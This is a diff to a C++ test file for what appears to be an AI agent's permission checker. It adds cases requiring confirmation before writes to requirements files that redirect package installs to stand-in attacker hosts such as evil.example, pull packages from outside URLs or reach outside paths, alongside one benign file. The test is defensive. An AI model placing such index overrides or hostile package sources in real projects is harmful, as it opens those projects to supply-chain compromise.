@@ -286,6 +286,14 @@ TEST(BuildFileWrites, SettingsThatChangeHowCommandsRunAsk) {
       {"package.json", "{\"overrides\": {\"x\": \"git+ssh://git@x.example/x\"}}"},
       {"package.json", "{\"dependencies\": {\"x\": \"npm:evil@1\"}}"},
       {"package.json", "{\"packageManager\": \"pnpm@9.0.0\"}"},
+      {"requirements.txt", "--index-url https://evil.example/simple\nrequests==2.31\n"},
+      {"requirements.txt", "requests==2.31\n--extra-index-url https://evil.example\n"},
+      {"requirements-dev.txt", "-e ../../outside\n"},
+      {"requirements.txt", "-r /tmp/more.txt\n"},
+      {"requirements/base.txt", "evil @ git+https://x.example/evil\n"},
+      {"requirements.in", "https://x.example/evil.tar.gz\n"},
+      {"constraints.txt", "./local-wheel.whl\n"},
+      {"requirements.txt", "requests --find-links=/tmp/wheels\n"},
   };
   for (const auto& [name, content] : files) {
     EXPECT_NE(verdictIn(ws, "Write", {{"file_path", ws.root() + "/" + name}, {"content", content}}),
@@ -296,7 +304,10 @@ TEST(BuildFileWrites, SettingsThatChangeHowCommandsRunAsk) {
            {"package.json",
             "{\"dependencies\": {\"x\": \"^1.2.0\", \"y\": \"~2 || 3.x\", "
             "\"z\": \"latest\", \"w\": \"workspace:*\"}}"},
-           {"Makefile", "CC = gcc\nall:\n\t$(CC) -o app main.c\n"}}) {
+           {"Makefile", "CC = gcc\nall:\n\t$(CC) -o app main.c\n"},
+           {"requirements.txt",
+            "# web\nrequests==2.31.0\nflask[async]>=3.0,<4  # server\nuvloop; sys_platform != "
+            "'win32'\n"}}) {
     EXPECT_EQ(verdictIn(ws, "Write", {{"file_path", ws.root() + "/" + name}, {"content", content}}),
               Verdict::Allow)
         << name << ": " << content;
